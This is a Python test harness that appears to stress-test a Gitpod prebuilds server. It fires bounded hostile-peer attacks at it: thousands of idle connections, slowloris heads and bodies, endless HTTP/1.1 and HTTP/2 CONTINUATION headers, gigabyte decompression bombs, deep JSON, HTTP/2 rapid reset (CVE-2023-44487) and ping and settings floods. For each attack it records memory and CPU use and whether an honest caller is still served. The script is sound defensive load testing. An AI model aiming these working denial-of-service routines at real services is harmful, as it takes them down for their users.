"""Hostile peers against `prebuilds serve`: each attack is bounded, measured and survived.

Every attack says what it did, what the server's memory grew by and what CPU time it took. It fails
when the growth is over the attack's limit, when the server does not answer an honest call during
or after it, or when the attacker is served what he should not get.

Environment: BASE_URL, TOKEN, SERVER_PID, LOG_URL (a log of LOG_BYTES bytes), REPORT (a file).
"""

import asyncio
import contextlib
import json
import os
import struct
import sys
import time
import urllib.request
import zlib

import brotli
import hpack
import zstandard

BASE_URL = os.environ["BASE_URL"]
TOKEN = os.environ["TOKEN"]
PID = int(os.environ["SERVER_PID"])
LOG_PATH = os.environ["LOG_URL"].removeprefix(BASE_URL)
LOG_BYTES = int(os.environ["LOG_BYTES"])
HOST, PORT = BASE_URL.removeprefix("http://").split(":")
LIST = "/gitpod.v1.PrebuildService/ListPrebuilds"
MIB = 1 << 20
IDLE_CONNECTIONS = 9_900
# What a request's head may take before it must be whole, and as long again to say goodbye.
HEAD_SECONDS = 30
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Finding(Exception):
    """The server did not stand an attack."""


def resident() -> int:
    with open(f"/proc/{PID}/status") as status:
        for line in status:
            if line.startswith("VmRSS"):
                return int(line.split()[1]) * 1024
    raise Finding("the server is gone")


def cpu_seconds() -> float:
    with open(f"/proc/{PID}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def open_sockets() -> int:
    folder = f"/proc/{PID}/fd"
    count = 0
    for name in os.listdir(folder):
        with contextlib.suppress(OSError):
            count += os.readlink(f"{folder}/{name}").startswith("socket:")
    return count


def honest_call() -> float:
    """An honest caller's list; returns the seconds that it took."""
    request = urllib.request.Request(
        BASE_URL + LIST,
        data=b"{}",
        headers={"Content-Type": "application/json", "Authorization": f"Bearer {TOKEN}"},
    )
    begun = time.monotonic()
    with urllib.request.urlopen(request, timeout=10) as response:
        if not json.load(response).get("prebuilds"):
            raise Finding("an honest caller got an empty list")
    return time.monotonic() - begun


async def connect() -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection(HOST, PORT)


async def drain_to_end(reader: asyncio.StreamReader, seconds: float) -> bytes:
    """What the server sends until it closes; a finding when it does not close in time."""
    got = b""
    try:
        async with asyncio.timeout(seconds):
            while chunk := await reader.read(65536):
                got = (got + chunk)[-65536:]
    except TimeoutError:
        raise Finding(f"the connection was not closed within {seconds} s") from None
    except ConnectionError:
        pass
    return got


def head(path: str, *lines: str) -> bytes:
    fixed = (f"POST {path} HTTP/1.1", f"Host: {HOST}", f"Authorization: Bearer {TOKEN}")
    return "\r\n".join((*fixed, *lines, "", "")).encode()


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def h2_head(path: str, content_type: str) -> bytes:
    return hpack.Encoder().encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":authority", HOST),
            (":path", path),
            ("content-type", content_type),
            ("te", "trailers"),
            ("authorization", f"Bearer {TOKEN}"),
        ],
        huffman=False,
    )


async def push(writer: asyncio.StreamWriter, chunks) -> int:
    """Sends until the server has enough of it; returns how many bytes went out."""
    sent = 0
    try:
        async with asyncio.timeout(5):
            for chunk in chunks:
                writer.write(chunk)
                await writer.drain()
                sent += len(chunk)
    except (ConnectionError, TimeoutError):
        pass
    return sent


async def idle_connections() -> str:
    """Connections that say nothing: an honest caller still gets in, and they are closed in time."""
    before, sockets = resident(), open_sockets()
    peers = []
    for _ in range(IDLE_CONNECTIONS // 100):
        peers += await asyncio.gather(*(connect() for _ in range(100)))
    while open_sockets() < sockets + IDLE_CONNECTIONS:
        await asyncio.sleep(0.05)
    held = resident() - before
    seconds = await asyncio.to_thread(honest_call)
    begun = time.monotonic()
    await asyncio.gather(*(drain_to_end(reader, 3 * HEAD_SECONDS) for reader, _ in peers))
    closed = time.monotonic() - begun
    for _, writer in peers:
        writer.close()
    return (
        f"{held / MIB / IDLE_CONNECTIONS * 1000:.1f} MiB per 1,000; an honest call took "
        f"{seconds * 1000:.0f} ms; all closed after {closed:.0f} s"
    )


async def endless_head() -> str:
    """A header section over HTTP/1.1 that does not end."""
    reader, writer = await connect()
    line = b"X-Padding: " + b"a" * 1000 + b"\r\n"
    writer.write(head(LIST)[:-2])
    sent = await push(writer, (line for _ in range(100_000)))
    writer.close()
    if sent > 8 * MIB:
        raise Finding(f"{sent} bytes of header were taken")
    return f"ended after {sent // 1024} KiB"


async def endless_continuation() -> str:
    """A header section over HTTP/2 that does not end: CONTINUATION for ever."""
    reader, writer = await connect()
    writer.write(PREFACE + frame(4, 0, 0) + frame(1, 0, 1, h2_head(LIST, "application/grpc")))
    field = hpack.Encoder().encode([("x-padding", "a" * 1000)], huffman=False)
    sent = await push(writer, (frame(9, 0, 1, field) for _ in range(100_000)))
    writer.close()
    if sent > 16 * MIB:
        raise Finding(f"{sent} bytes of header were taken")
    return f"ended after {sent // 1024} KiB"


async def slow_heads() -> str:
    """Heads that come a byte a second are not waited for longer than the time for a head."""

    async def one() -> None:
        reader, writer = await connect()

        async def drip() -> None:
            with contextlib.suppress(ConnectionError):
                for byte in head(LIST) * 2:
                    writer.write(bytes([byte]))
                    await writer.drain()
                    await asyncio.sleep(1)

        dripping = asyncio.create_task(drip())
        try:
            await drain_to_end(reader, 3 * HEAD_SECONDS)
        finally:
            dripping.cancel()
            writer.close()

    begun = time.monotonic()
    attack = asyncio.gather(*(one() for _ in range(500)))
    seconds = await asyncio.to_thread(honest_call)
    await attack
    return (
        f"500 closed after {time.monotonic() - begun:.0f} s; an honest call took "
        f"{seconds * 1000:.0f} ms"
    )


async def slow_bodies() -> str:
    """Strangers whose bodies come a byte a second are refused at once, and not heard out."""
    refused = 0

    async def one() -> None:
        nonlocal refused
        reader, writer = await connect()
        lines = ("Content-Type: application/json", "Content-Length: 1000000")
        writer.write(head(LIST, *lines).replace(TOKEN.encode(), b"wrong"))

        async def drip() -> None:
            with contextlib.suppress(ConnectionError):
                while True:
                    writer.write(b" ")
                    await writer.drain()
                    await asyncio.sleep(1)

        dripping = asyncio.create_task(drip())
        try:
            answer = await drain_to_end(reader, 30)
            refused += b"unauthenticated" in answer
        finally:
            dripping.cancel()
            writer.close()

    begun = time.monotonic()
    attack = asyncio.gather(*(one() for _ in range(500)))
    seconds = await asyncio.to_thread(honest_call)
    await attack
    if refused < 500:
        raise Finding(f"{500 - refused} of 500 got no answer")
    return (
        f"500 refused, closed after {time.monotonic() - begun:.0f} s; an honest call took "
        f"{seconds * 1000:.0f} ms"
    )


async def slow_readers() -> str:
    """Callers who ask for a large log and then do not read, 200 of them on either version."""
    writers = []
    request = f"GET {LOG_PATH} HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer {TOKEN}\r\n\r\n"
    for _ in range(100):
        reader, writer = await connect()
        writer.transport.pause_reading()
        writer.write(request.encode())
        writers.append(writer)
    fields = [(":method", "GET"), (":scheme", "http"), (":authority", HOST), (":path", LOG_PATH)]
    fields.append(("authorization", f"Bearer {TOKEN}"))
    block = hpack.Encoder().encode(fields, huffman=False)
    reader, writer = await connect()
    writer.transport.pause_reading()
    # Windows as large as they can be, so that only the server's own limits hold.
    settings = struct.pack(">HI", 4, (1 << 31) - 1)
    widen = frame(8, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))
    writer.write(PREFACE + frame(4, 0, 0, settings) + widen)
    for stream in range(100):
        writer.write(frame(1, 5, 2 * stream + 1, block))
    await writer.drain()
    writers.append(writer)
    await asyncio.sleep(3)
    seconds = await asyncio.to_thread(honest_call)
    for writer in writers:
        writer.transport.abort()
    return f"200 × {LOG_BYTES // MIB} MiB unread; an honest call took {seconds * 1000:.0f} ms"


def bombs() -> dict[str, bytes]:
    """1 GiB of zeros in every coding that the server takes."""
    block, count = bytes(MIB), 1024
    packed = {}
    encoder = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed["gzip"] = b"".join(encoder.compress(block) for _ in range(count)) + encoder.flush()
    encoder = zlib.compressobj(9)
    packed["deflate"] = b"".join(encoder.compress(block) for _ in range(count)) + encoder.flush()
    encoder = zstandard.ZstdCompressor(level=3).compressobj()
    packed["zstd"] = b"".join(encoder.compress(block) for _ in range(count)) + encoder.flush()
    encoder = brotli.Compressor(quality=3)
    packed["br"] = b"".join(encoder.process(block) for _ in range(count)) + encoder.finish()
    return packed


async def decompression_bombs() -> str:
    """A gigabyte of zeros in every coding, as a Connect body and as a gRPC-Web message."""

    async def one(lines: tuple[str, ...], body: bytes) -> None:
        reader, writer = await connect()
        writer.write(head(LIST, *lines, f"Content-Length: {len(body)}", "Connection: close"))
        await push(writer, (body[at : at + 65536] for at in range(0, len(body), 65536)))
        answer = await drain_to_end(reader, 30)
        writer.close()
        if b"resource_exhausted" not in answer and b"grpc-status: 8" not in answer.lower():
            raise Finding(f"a bomb in {lines} was answered with {answer[:300]!r}")

    calls = []
    for coding, body in (await asyncio.to_thread(bombs)).items():
        connect_unary = ("Content-Type: application/json", f"Content-Encoding: {coding}")
        web = ("Content-Type: application/grpc-web+proto", f"Grpc-Encoding: {coding}")
        if len(body) < 4 * MIB:
            calls += [one(connect_unary, body) for _ in range(5)]
            message = struct.pack(">BI", 1, len(body)) + body
            calls += [one(web, message) for _ in range(5)]
        else:
            raise Finding(f"the bomb in {coding} is too large to be one: {len(body)} bytes")
    await asyncio.gather(*calls)
    return f"{len(calls)} bombs refused as resource_exhausted"


async def promised_length() -> str:
    """Messages and bodies that promise gigabytes."""
    answers = []
    reader, writer = await connect()
    lines = ("Content-Type: application/json", "Content-Length: 9000000000000", "Connection: close")
    writer.write(head(LIST, *lines))
    answers.append(await drain_to_end(reader, 3 * HEAD_SECONDS))
    writer.close()
    reader, writer = await connect()
    body = struct.pack(">BI", 0, 0xFFFF_FFFF) + b"abc"
    lines = ("Content-Type: application/grpc-web+proto", f"Content-Length: {len(body)}")
    writer.write(head(LIST, *lines, "Connection: close") + body)
    answers.append(await drain_to_end(reader, 30))
    writer.close()
    for answer in answers:
        if b"resource_exhausted" not in answer and b"grpc-status: 8" not in answer.lower():
            raise Finding(f"a promise of gigabytes was answered with {answer[:300]!r}")
    return "refused as resource_exhausted"


async def deep_json() -> str:
    """A million opening brackets."""
    for body in (b"[" * 1_000_000, b'{"filter":' * 100_000, b'{"x":' * 200_000):
        reader, writer = await connect()
        lines = ("Content-Type: application/json", f"Content-Length: {len(body)}")
        writer.write(head(LIST, *lines, "Connection: close"))
        await push(writer, [body])
        answer = await drain_to_end(reader, 30)
        writer.close()
        if b"invalid_argument" not in answer:
            raise Finding(f"deep JSON was answered with {answer[:300]!r}")
    return "refused as invalid_argument"


async def rapid_reset() -> str:
    """Streams that are reset as soon as they are opened (CVE-2023-44487), on 20 connections."""
    block = h2_head(LIST, "application/grpc")
    cancel = struct.pack(">I", 8)

    async def one() -> tuple[int, bool]:
        reader, writer = await connect()
        writer.write(PREFACE + frame(4, 0, 0))
        pairs = (
            b"".join(
                frame(1, 4, stream, block) + frame(3, 0, stream, cancel)
                for stream in range(first, first + 200, 2)
            )
            for first in range(1, 100_001, 200)
        )
        reading = asyncio.create_task(drain_to_end(reader, 60))
        sent = await push(writer, pairs)
        with contextlib.suppress(Finding, TimeoutError):
            await asyncio.wait_for(asyncio.shield(reading), 2)
        ended = reading.done()
        reading.cancel()
        writer.close()
        return sent // (len(frame(1, 4, 1, block)) + 13), ended

    attack = asyncio.gather(*(one() for _ in range(20)))
    seconds = await asyncio.to_thread(honest_call)
    outcomes = await attack
    if not all(ended for _, ended in outcomes):
        raise Finding("a connection that only resets was not closed")
    return (
        f"closed after {max(sent for sent, _ in outcomes)} resets at most; an honest call took "
        f"{seconds * 1000:.0f} ms"
    )


async def ping_flood() -> str:
    """A million pings from a peer that reads no answer."""
    reader, writer = await connect()
    writer.transport.pause_reading()
    writer.write(PREFACE + frame(4, 0, 0))
    pings = frame(6, 0, 0, b"12345678") * 1000
    sent = await push(writer, (pings for _ in range(1000)))
    writer.transport.abort()
    return f"{sent // 17} taken"


async def settings_flood() -> str:
    """A million settings from a peer that reads no answer."""
    reader, writer = await connect()
    writer.transport.pause_reading()
    writer.write(PREFACE + frame(4, 0, 0))
    settings = frame(4, 0, 0) * 1000
    sent = await push(writer, (settings for _ in range(1000)))
    writer.transport.abort()
    return f"{sent // 9} taken"


async def noise() -> str:
    """Bytes that are no HTTP."""
    for seed in range(300):
        reader, writer = await connect()
        body = bytes((seed * 31 + at * 17) % 256 for at in range(64))
        with contextlib.suppress(OSError):
            writer.write(body + b"\r\n\r\n" + body)
            writer.write_eof()
            await drain_to_end(reader, 30)
        writer.close()
    return "300 closed"


# What the server's memory may grow by while it is attacked so.
ATTACKS = [
    (idle_connections, 300 * MIB),
    (endless_head, 16 * MIB),
    (endless_continuation, 32 * MIB),
    (slow_heads, 32 * MIB),
    (slow_bodies, 32 * MIB),
    (slow_readers, 200 * MIB),
    (decompression_bombs, 256 * MIB),
    (promised_length, 16 * MIB),
    (deep_json, 32 * MIB),
    (rapid_reset, 64 * MIB),
    (ping_flood, 32 * MIB),
    (settings_flood, 32 * MIB),
    (noise, 16 * MIB),
]


async def peak_of(attack) -> tuple[str, int]:
    before, peak = resident(), resident()

    async def watch() -> None:
        nonlocal peak
        while True:
            peak = max(peak, resident())
            await asyncio.sleep(0.02)

    watching = asyncio.create_task(watch())
    try:
        said = await attack()
    finally:
        watching.cancel()
    return said, peak - before


async def main() -> int:
    chosen = sys.argv[1:]
    report, failed = [], 0
    for attack, limit in ATTACKS:
        name = attack.__name__.replace("_", " ")
        if chosen and attack.__name__ not in chosen:
            continue
        used = cpu_seconds()
        try:
            said, growth = await peak_of(attack)
            await asyncio.to_thread(honest_call)
            if growth > limit:
                raise Finding(f"memory grew by {growth // MIB} MiB; {said}")
            used = cpu_seconds() - used
            verdict = f"memory +{growth // MIB} of {limit // MIB} MiB, CPU {used:.1f} s; {said}"
            report.append({"attack": name, "growth_bytes": growth, "cpu_seconds": round(used, 2), "said": said})
        except (Finding, OSError) as finding:
            failed += 1
            verdict = f"FAILED: {finding}"
            report.append({"attack": name, "finding": str(finding)})
        print(f"{name:22} {verdict}", flush=True)
    with open(os.environ["REPORT"], "w") as file:
        json.dump(report, file, indent=1)
    print(f"hostile peers: {len(report) - failed} survived, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
